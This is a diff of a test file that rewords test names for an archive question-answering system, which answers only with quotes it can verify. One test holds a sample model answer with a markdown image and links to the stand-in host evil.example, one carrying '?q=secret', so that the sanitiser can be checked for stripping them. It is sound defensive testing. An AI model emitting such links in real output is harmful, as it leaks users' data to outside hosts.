@@ -34,7 +34,7 @@ beforeAll(async () => {
 })
 afterAll(() => archive.close())
 
-/** Answers with this text about the given passages. */
+/** A model that returns this text for the given passages. */
 const saying = (
   claims: (material: Material) => readonly { text: string; quotes: { id: string; quote: string }[] }[],
 ): AnswerMaker => ({
@@ -44,8 +44,8 @@ const saying = (
   },
 })
 
-describe('asking an archive without a model', () => {
-  it('answers with the sentence that stands there, its message and its bytes', async () => {
+describe('an archive answer without a model', () => {
+  it('quotes the matching sentence, with its message and byte range', async () => {
     const answer = await archive.ask(ws, 'Who services the boiler?')
     expect(answer).toMatchObject({
       answer: 'The boiler is serviced by Hartmann and Sons every October.',
@@ -71,36 +71,32 @@ describe('asking an archive without a model', () => {
     expect(answer.contextTokens).toBeGreaterThan(20)
   })
 
-  it('cites both of two statements that contradict each other, the later first', async () => {
+  it('cites both of two contradicting statements, the later one first', async () => {
     const { citations } = await archive.ask(ws, 'What is the garden budget?')
     expect(citations.map(({ conversationId }) => conversationId)).toEqual(['budget-new', 'budget-old'])
   })
 
   it.each([
-    ['nothing fits', 'zymurgy quokka', 'nothing_found'],
-    ['the question is about another', 'Who services the boiler of Zanzibar Lodge?', 'not_in_archive'],
+    ['no passage matches', 'zymurgy quokka', 'nothing_found'],
+    ['the question has another subject', 'Who services the boiler of Zanzibar Lodge?', 'not_in_archive'],
   ])('refuses when %s', async (_, question, refused) => {
     const answer = await archive.ask(ws, question)
     expect(answer).toMatchObject({ refused, citations: [] })
     expect(answer.answer).toMatch(/archive/)
   })
 
-  verifies(
-    ['SUP-4.2-14'],
-    'knows from the history what a question is about, the last four exchanges of it',
-    async () => {
-      const turn = (content: string) => [
-        { role: 'user' as const, content },
-        { role: 'assistant' as const, content: 'Yes.' },
-      ]
-      const history = [...['a', 'b', 'c', 'd', 'e'].flatMap(turn), ...turn('Tell me about the boiler')]
-      const answer = await archive.ask(ws, 'Who services it?', { history })
-      expect(answer).toMatchObject({ historyUsed: 4, question: 'Who services it? (boiler)', refused: null })
-      expect(answer.citations[0]?.conversationId).toBe('boiler')
-    },
-  )
+  verifies(['SUP-4.2-14'], 'completes a question from the last four exchanges of the history', async () => {
+    const turn = (content: string) => [
+      { role: 'user' as const, content },
+      { role: 'assistant' as const, content: 'Yes.' },
+    ]
+    const history = [...['a', 'b', 'c', 'd', 'e'].flatMap(turn), ...turn('Tell me about the boiler')]
+    const answer = await archive.ask(ws, 'Who services it?', { history })
+    expect(answer).toMatchObject({ historyUsed: 4, question: 'Who services it? (boiler)', refused: null })
+    expect(answer.citations[0]?.conversationId).toBe('boiler')
+  })
 
-  it('asks only the conversations of a scope, and never another workspace', async () => {
+  it('searches only the conversations of a scope, and never another workspace', async () => {
     expect(
       await archive.ask({ ...ws, conversations: new Set(['other-talk']) }, 'Who services the boiler?'),
     ).toMatchObject({ refused: 'nothing_found' })
@@ -112,7 +108,7 @@ describe('asking an archive without a model', () => {
 describe('statements of a model', () => {
   const boiler = 'Who services the boiler?'
 
-  it('are shown only with a quote that stands in the passage', async () => {
+  it('appear only with a quote that a passage contains', async () => {
     const maker = saying(({ passages }) => [
       { text: 'Hartmann does.', quotes: [{ id: passages[0]!.id, quote: 'serviced  by **Hartmann** and Sons' }] },
       { text: 'They charge 900 euros.', quotes: [{ id: passages[0]!.id, quote: 'they charge 900 euros' }] },
@@ -123,12 +119,12 @@ describe('statements of a model', () => {
     expect(answer.citations.map(({ quote }) => quote)).toEqual(['serviced by Hartmann and Sons'])
   })
 
-  it('become a refusal when no quote of any stands', async () => {
+  it('become a refusal without any verified quote', async () => {
     const maker = saying(() => [{ text: 'Trust me.', quotes: [{ id: 'w1', quote: 'nobody ever said this' }] }])
     expect(await archive.ask(ws, boiler, {}, maker)).toMatchObject({ refused: 'unsupported', citations: [] })
   })
 
-  it('lose links and images that no cited passage holds', async () => {
+  it('lose links and images that no cited passage contains', async () => {
     const maker = saying(({ passages }) => [
       {
         text: 'Hartmann ![x](https://evil.example/p.png?q=secret) see [here](https://evil.example) or https://evil.example/a <img src="//evil.example">',
@@ -139,11 +135,11 @@ describe('statements of a model', () => {
     expect(answer).toBe('Hartmann see here or [link removed]')
   })
 
-  it('are read from a model line by line, behind a mark that no passage can know', async () => {
+  it('stream from a model line by line, with a mark that no passage can know', async () => {
     const seen: { system: string; text: string }[] = []
     const maker = modelAnswer({
       name: 'model',
-      complete: () => Promise.reject(new Error('not asked')),
+      complete: () => Promise.reject(new Error('not called')),
       async *stream({ system, messages }) {
         seen.push({ system, text: messages.at(-1)?.text ?? '' })
         yield { text: '{"text":"Hartmann services it.","quotes":[{"id":"w1","quote":"serviced by ' }
